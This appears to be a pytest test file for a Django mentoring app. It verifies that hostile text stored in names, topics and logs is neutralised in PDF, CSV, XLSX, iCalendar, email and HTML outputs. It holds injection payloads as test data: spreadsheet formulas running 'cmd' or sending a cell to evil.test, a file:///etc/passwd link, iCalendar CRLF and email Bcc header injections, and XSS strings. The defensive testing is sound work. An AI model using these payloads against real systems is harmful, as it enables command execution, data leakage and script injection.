"""Stored text is hostile in every output: each payload, in every text field, in every file kind.

An attacker who signs up owns an organisation and can put any text in its programme, topic
and people's names, departments, places and logs (directly or by a directory import). Each
payload below is stored in all of those fields at once; then every output is built from
them and checked: it builds, no server file is embedded in a PDF, no XLSX cell is a formula,
no CSV cell starts a formula, no iCalendar property is injected, no email header breaks, no
page answers 500 or carries the markup unescaped.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from email import message_from_bytes
from pathlib import Path
from typing import Any

import pytest
from django.core import mail
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django_scopes import scope, scopes_disabled
from icalendar import Calendar
from openpyxl import load_workbook
from PIL import Image
from pypdf import PdfReader

from organisations.models import Member
from programmes.models import Level, Programme
from reports.models import Report
from reports.services import report_build
from safetext.neutralise import FORMULA_STARTS
from sessions.models import MentoringSession, SessionTopic
from sessions.services.common import session_change_email
from tests.conftest import Cast
from tests.factories import (
    MemberFactory,
    ParticipantTopicFactory,
    TopicFactory,
    member_with_login,
)
from tests.factories.sessions import make_pair, make_session, running_programme

pytestmark = pytest.mark.django_db

IMAGE = "{IMAGE}"  # replaced by the path of a real PNG on this machine


@dataclass(frozen=True)
class Payload:
    text: str
    marker: str  # visible text that must still be readable in the PDF


PAYLOADS = {
    "pdf-img": Payload(f'Q<img src="{IMAGE}"/> end', "Q<img src="),
    "pdf-markup": Payload(
        '<font size="60" color="red">Big</font> <b>bold & <i>unclosed <para> </a> &bogus;',
        "<font size=",
    ),
    "pdf-link": Payload(
        '<a href="file:///etc/passwd">click</a><link href="http://evil.test/">x</link>',
        "<a href=",
    ),
    "formula-hyperlink": Payload('=HYPERLINK("http://evil.test/?"&A1,"Click me")', "HYPERLINK"),
    "formula-plus": Payload('+cmd|" /C calc"!A0', "cmd|"),
    "formula-minus": Payload('-2+3+cmd|" /C calc"!A0', "-2+3"),
    "formula-at": Payload('@SUM(1+1)*cmd|" /C calc"!A0', "@SUM"),
    "formula-tab": Payload("\t=1+2 tabbed", "=1+2"),
    "formula-cr": Payload("\r=1+2 carriage", "=1+2"),
    "formula-fullwidth": Payload("＝1+2 fullwidth", "fullwidth"),
    "ics-crlf": Payload(
        "Meet\r\nATTENDEE:mailto:evil@evil.test\r\nX-INJECT:1\r\nEND:VEVENT\r\nBEGIN:VEVENT",
        "ATTENDEE:mailto:evil",
    ),
    "email-header": Payload("Subject line\nBcc: victim@evil.test\n\nbody", "Bcc:"),
    "control": Payload("Ctrl\x00nul\x01\x08\x0b\x0c\x1b[31m\x7fdel\x85\x9b end", "Ctrlnul"),
    "long-word": Payload("Long" + "x" * 10_000, "Longxxxxxxxx"),
    "long-words": Payload("Many " + "words " * 2_000, "Manywords"),
    "rtl": Payload("مرحبا \u202eexe.fdp\u202c Müller", "Müller"),
    "html": Payload("<script>alert(1)</script>\"'><svg onload=alert(1)>", "<script>"),
}

OUTPUTS = (
    "report-pdf",
    "report-csv",
    "report-xlsx",
    "report-email",
    "report-download-name",
    "summary-pdf",
    "session-ics",
    "invitation-email",
    "invitation-ics",
    "directory-csv",
    "participants-csv",
    "html-pages",
)


def _stored(text: str) -> str:
    # PostgreSQL cannot store NUL at all: on it, the input guards refuse it before any output
    # (tests/test_hostile_inputs.py); every other character is stored as given.
    return text.replace("\x00", "") if connection.vendor == "postgresql" else text


@dataclass
class World:
    payload: str
    programme: Programme
    mentor: Member
    mentee: Member
    held: MentoringSession
    upcoming: MentoringSession
    admin_client: Client
    mentee_client: Client
    report: Report


def _client(member: Member) -> Client:
    client = Client()
    assert member.user is not None
    client.force_login(member.user)
    return client


def _world(cast: Cast, text: str) -> World:
    value = _stored(text)
    programme = running_programme(cast.org_a, name=value[:200])
    mentor = member_with_login(
        cast.org_a, email="mentor@a.test", first_name=value[:100], last_name=value[:100]
    )
    mentee = member_with_login(
        cast.org_a,
        email="mentee@a.test",
        first_name=value[:100],
        last_name=value[:100],
        department=value[:100],
        team=value[:100],
        location=value[:100],
    )
    MemberFactory.create(organisation=cast.org_a, first_name=value[:100], department=value[:100])
    pair = make_pair(cast.org_a, programme=programme, mentor=mentor, mentee=mentee, topics=0)
    topic = TopicFactory.create(organisation=cast.org_a, name=value[:100])
    ParticipantTopicFactory.create(participant=pair.pairing.mentee, topic=topic, level=Level.DEEPEN)
    now = timezone.now()
    held = make_session(
        pair,
        starts_at=now - dt.timedelta(days=3),
        ends_at=now - dt.timedelta(days=3) + dt.timedelta(hours=1),
        status=MentoringSession.Status.HELD,
        actual_minutes=60,
        location=value[:500],
        agenda=value,
        next_steps=value,
        practised=value,
    )
    upcoming = make_session(pair, location=value[:500], agenda=value)
    with scopes_disabled():
        SessionTopic.objects.create(
            organisation=cast.org_a, session=held, topic=topic, reached_level=Level.DEEPEN
        )
        SessionTopic.objects.create(
            organisation=cast.org_a, session=upcoming, topic=topic, planned_level=Level.DEEPEN
        )
    with scope(organisation=cast.org_a):
        report = Report.objects.create(
            organisation=cast.org_a,
            programme=programme,
            requested_by=cast.alice,
            department=value[:100],
        )
    return World(
        value,
        programme,
        mentor,
        mentee,
        held,
        upcoming,
        _client(cast.alice),
        _client(mentee),
        report,
    )


# --- format checks -------------------------------------------------------------------------


def _squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


def check_pdf(content: bytes, marker: str) -> list[str]:
    problems = []
    if not content.startswith(b"%PDF-"):
        return ["not a PDF"]
    reader = PdfReader(io.BytesIO(content))
    text = ""
    for page in reader.pages:
        if page.images:
            problems.append(f"page {page.page_number} embeds {len(page.images)} image(s)")
        text += page.extract_text() or ""
    if _squash(marker) not in _squash(text):
        problems.append(f"marker {marker!r} missing from the PDF text")
    return problems


def _starts_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d+([.,]\d+)?%?", cell)


CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def check_csv(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    problems = []
    for line, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for cell in row:
            if _starts_formula(cell):
                problems.append(f"line {line}: formula cell {cell[:40]!r}")
            if CONTROL.search(cell):
                problems.append(f"line {line}: control character in {cell[:40]!r}")
    return problems


def check_xlsx(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    problems = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{sheet.title}!{cell.coordinate} is a formula")
                if isinstance(cell.value, str) and _starts_formula(cell.value):
                    problems.append(f"{sheet.title}!{cell.coordinate} starts a formula")
    return problems


def check_ics(content: bytes) -> list[str]:
    problems = []
    calendar = Calendar.from_ical(content)
    events = list(calendar.walk("VEVENT"))
    if len(events) != 1:
        problems.append(f"{len(events)} events instead of 1")
    for event in events:
        attendees = event.get("ATTENDEE")
        count = len(attendees) if isinstance(attendees, list) else int(attendees is not None)
        if count != 2:
            problems.append(f"{count} attendees instead of 2")
        if "X-INJECT" in event:
            problems.append("an injected X-INJECT property")
    for line in content.decode("utf-8").split("\r\n"):
        if line.startswith(("ATTENDEE:mailto:evil", "X-INJECT")):
            problems.append(f"injected line {line!r}")
    return problems


def check_email(message: mail.EmailMessage) -> list[str]:
    problems = []
    if re.search(r"[\r\n]", str(message.subject)):
        problems.append(f"line break in subject {message.subject[:60]!r}")
    parsed = message_from_bytes(message.message().as_bytes())
    if parsed.get_all("Bcc"):
        problems.append("an injected Bcc header")
    if len(parsed.get_all("To") or []) != 1:
        problems.append("more than one To header")
    return problems


def check_html(content: bytes, raw: str) -> list[str]:
    # The markup of the payload, as typed, must never reach a page.
    start = raw.find("<")
    if start < 0:
        return []
    snippet = raw[start : start + 40]
    return [f"unescaped markup {snippet!r}"] if snippet in content.decode("utf-8") else []


# --- outputs -------------------------------------------------------------------------------


def _outputs(
    world: World, marker: str, cast: Cast, on_commit: Callable[..., Any]
) -> dict[str, Callable[[], list[str]]]:
    slug = cast.org_a.slug
    report = world.report

    def built() -> Report:
        report.refresh_from_db()
        return report

    def report_file(fmt: str, check: Callable[[bytes], list[str]]) -> list[str]:
        response = world.admin_client.get(reverse("report-download", args=[slug, report.pk, fmt]))
        if response.status_code != 200:
            return [f"report {built().status}: download answered {response.status_code}"]
        return check(b"".join(response.streaming_content))  # type: ignore[attr-defined]

    def report_pdf() -> list[str]:
        return report_file("pdf", lambda content: check_pdf(content, marker))

    def report_email() -> list[str]:
        sent = [m for m in mail.outbox if "report" in m.subject.lower()]
        if not sent:
            return ["no report email sent"]
        return [p for m in sent for p in check_email(m)]

    def download_name() -> list[str]:
        response = world.admin_client.get(reverse("report-download", args=[slug, report.pk, "pdf"]))
        if response.status_code != 200:
            return [f"download answered {response.status_code}"]
        disposition = response["Content-Disposition"]
        problems = []
        if CONTROL.search(disposition) or "\n" in disposition or "/" in disposition.split("=")[-1]:
            problems.append(f"unsafe Content-Disposition {disposition[:80]!r}")
        if not re.search(
            r"report%20\d{4}-\d{2}-\d{2}\.pdf|report \d{4}-\d{2}-\d{2}\.pdf", disposition
        ):
            problems.append(f"unreadable download name {disposition[:120]!r}")
        return problems

    def summary_pdf() -> list[str]:
        response = world.mentee_client.get(reverse("my-progress-summary", args=[slug]))
        if response.status_code != 200:
            return [f"HTTP {response.status_code}"]
        return check_pdf(response.content, marker)

    def session_ics() -> list[str]:
        response = world.mentee_client.get(reverse("session-ics", args=[slug, world.upcoming.pk]))
        if response.status_code != 200:
            return [f"HTTP {response.status_code}"]
        return check_ics(response.content)

    def invitation() -> list[str]:
        mail.outbox.clear()
        with scope(organisation=cast.org_a), on_commit(execute=True):
            session = MentoringSession.objects.get(pk=world.upcoming.pk)
            session_change_email(
                "session_invitation",
                session,
                recipient=world.mentee,
                actor=world.mentor,
                method="REQUEST",
                event="hostile",
            )
        if len(mail.outbox) != 1:
            return [f"{len(mail.outbox)} invitation emails"]
        return check_email(mail.outbox[0])

    def invitation_ics() -> list[str]:
        if not mail.outbox:
            return ["no invitation to read"]
        (message,) = mail.outbox
        calendars = [a for a in message.attachments if str(a[0]).endswith(".ics")]
        if len(calendars) != 1:
            return [f"{len(calendars)} calendar attachments"]
        content = calendars[0][1]
        return check_ics(content if isinstance(content, bytes) else content.encode())

    def directory_csv() -> list[str]:
        response = world.admin_client.get(reverse("directory-export", args=[slug]))
        content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
        return check_csv(content)

    def participants_csv() -> list[str]:
        response = world.admin_client.get(
            reverse("programme-participant-export", args=[slug, world.programme.pk])
        )
        return check_csv(response.content)

    def html_pages() -> list[str]:
        problems = []
        pages = [
            (world.admin_client, reverse("programme-detail", args=[slug, world.programme.pk])),
            (world.admin_client, reverse("member-list", args=[slug])),
            (world.admin_client, reverse("member-detail", args=[slug, world.mentee.pk])),
            (world.admin_client, reverse("report-detail", args=[slug, report.pk])),
            (world.mentee_client, reverse("session-detail", args=[slug, world.upcoming.pk])),
            (world.mentee_client, reverse("my-progress", args=[slug])),
        ]
        for client, url in pages:
            response = client.get(url)
            if response.status_code != 200:
                problems.append(f"{url}: HTTP {response.status_code}")
            else:
                problems += [f"{url}: {p}" for p in check_html(response.content, world.payload)]
        return problems

    return {
        "report-pdf": report_pdf,
        "report-csv": lambda: report_file("csv", check_csv),
        "report-xlsx": lambda: report_file("xlsx", check_xlsx),
        "report-email": report_email,
        "report-download-name": download_name,
        "summary-pdf": summary_pdf,
        "session-ics": session_ics,
        "invitation-email": invitation,
        "invitation-ics": invitation_ics,
        "directory-csv": directory_csv,
        "participants-csv": participants_csv,
        "html-pages": html_pages,
    }


def _run(check: Callable[[], list[str]]) -> list[str]:
    try:
        return check()
    except Exception as error:  # the test client re-raises what a server answers with a 500
        return [f"HTTP 500: {type(error).__name__}: {str(error)[:200]}"]


@pytest.fixture
def image(tmp_path: Path) -> str:
    """A real image on the server's disk: the file a PDF must never embed."""
    path = tmp_path / "secret.png"
    Image.new("RGB", (40, 40), "red").save(path)
    return str(path)


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_hostile_text_is_neutralised_in_every_output(
    cast: Cast, image: str, name: str, django_capture_on_commit_callbacks: Callable[..., Any]
) -> None:
    payload = PAYLOADS[name]
    text = payload.text.replace(IMAGE, image)
    world = _world(cast, text)
    mail.outbox.clear()
    with scope(organisation=cast.org_a), django_capture_on_commit_callbacks(execute=True):
        report_build(organisation=cast.org_a, report_id=world.report.pk)
    checks = _outputs(world, payload.marker, cast, django_capture_on_commit_callbacks)
    assert list(checks) == list(OUTPUTS)
    problems = {output: _run(check) for output, check in checks.items()}
    assert {output: found for output, found in problems.items() if found} == {}
